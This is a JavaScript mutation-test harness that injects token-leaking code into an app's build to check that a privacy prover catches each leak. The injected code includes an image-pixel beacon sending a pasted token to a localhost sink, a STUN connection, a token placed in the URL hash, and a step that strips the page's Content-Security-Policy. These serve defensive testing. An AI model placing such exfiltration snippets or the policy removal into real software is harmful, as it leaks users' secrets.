/**
 * Shows that the privacy prover can fail: variants of the source that leak what is pasted or written, each built and put
 * before it; and the pixel without the page's policy, so that the sink is seen to count what reaches it.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildApp } from '../build-app.mjs';
import { figuresOf, runProof } from './run-proof.mjs';
import { serve } from './serve.mjs';

const SINK = 'localhost:4891';
const PORT = 4881;

/** Where a pasted token arrives, and the feature that pastes one. */
const PASTED = {
  file: '/src/state/token-actions.ts',
  place: '      void inspect();\n    },\n    editContext',
  spec: 'privacy.spec.ts',
  feature: 'tokens of every kind',
};
const whenPasted = (code) => ({ ...PASTED, instead: `${code}\n${PASTED.place}` });
const PIXEL = whenPasted(`new Image().src = \`http://${SINK}/pixel?\${get().token.text.slice(0, 40)}\`;`);

/** In `file` stands `instead` where `place` was; the test called `feature` uses it. */
const MUTANTS = {
  'logs the token': whenPasted('console.log(get().token.text);'),
  'puts the token into the link': whenPasted('location.hash = `#/token?t=${get().token.text}`;'),
  'fetches a pixel': PIXEL,
  'stores the token': whenPasted("sessionStorage.setItem('last', get().token.text);"),
  'writes the token into the title': whenPasted('document.title = get().token.text;'),
  'opens a STUN connection':
    whenPasted(`const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:4891' }] });
    peer.createDataChannel('x');
    void peer.createOffer().then((offer) => peer.setLocalDescription(offer));`),
  'keeps what may not be kept': {
    file: '/src/state/workspace-of.ts',
    place: "hasDiagram && (await mayBeKept({ kind: 'writing', text: diagramSource }))",
    instead: 'hasDiagram',
    spec: 'privacy-companion.spec.ts',
    feature: 'work is kept, comes back',
  },
  'reports a doubt with the token': {
    file: '/src/features/fact-report/fact-report.tsx',
    place: 'stepLink(state, state.players.flow.index)',
    instead: '`#/token?t=${state.token.text}`',
    spec: 'privacy-companion.spec.ts',
    feature: 'a doubted verdict',
  },
};
const TRUST = ['foreign', 'late', 'sink', 'leaks', 'violations', 'clipboard', 'peers'];

function mutate({ file, place, instead }) {
  let done = false;
  return {
    name: 'mutant',
    enforce: 'pre',
    applyToEnvironment: ({ name }) => name === 'client',
    transform(source, id) {
      if (!id.endsWith(file)) return undefined;
      if (!source.includes(place)) throw new Error(`${file} has changed: the mutants have no place in it`);
      done = true;
      return source.replace(place, () => instead);
    },
    buildEnd() {
      if (!done) throw new Error(`${file} was not built`);
    },
  };
}

/** No build goes without a policy, so it is taken out of what was built. */
function removePolicy(outDir) {
  const document = join(outDir, 'index.html');
  const html = readFileSync(document, 'utf8');
  writeFileSync(document, html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
}

/** What the prover finds in a variant of the app. */
async function tryVariant(context, number, mutant, { withPolicy = true } = {}) {
  const outDir = join(context.folder, `mutant-${number}`);
  await buildApp({ plugins: [mutate(mutant)], build: { outDir, emptyOutDir: true } });
  if (!withPolicy) removePolicy(outDir);
  const server = await serve(outDir, PORT, { withHeaders: withPolicy });
  try {
    const { address } = server;
    const figures = figuresOf(
      await runProof({ ...context, address }, mutant.spec, { grep: mutant.feature, quiet: true }),
    );
    if (figures.sink === undefined) throw new Error('a variant was not watched to its end');
    return figures;
  } finally {
    await server.close();
  }
}

const foundIn = (figures) => TRUST.filter((id) => figures[id] > 0);

export async function provePrivacyMutants(context) {
  let red = 0;
  for (const [index, [name, mutant]] of Object.entries(MUTANTS).entries()) {
    const found = foundIn(await tryVariant(context, index, mutant));
    console.log(`${found.length > 0 ? 'found ' : 'MISSED'} ${name}: ${found.join(', ')}`);
    if (found.length > 0) red += 1;
  }
  const inNothing = foundIn(await tryVariant(context, 'idle', whenPasted('void 0;')));
  if (inNothing.length > 0) throw new Error(`a variant that leaks nothing is found: ${inNothing.join(', ')}`);
  const open = await tryVariant(context, 'open', PIXEL, { withPolicy: false });
  return { red: { value: red, note: `of ${Object.keys(MUTANTS).length}` }, 'open-policy': open.sink };
}
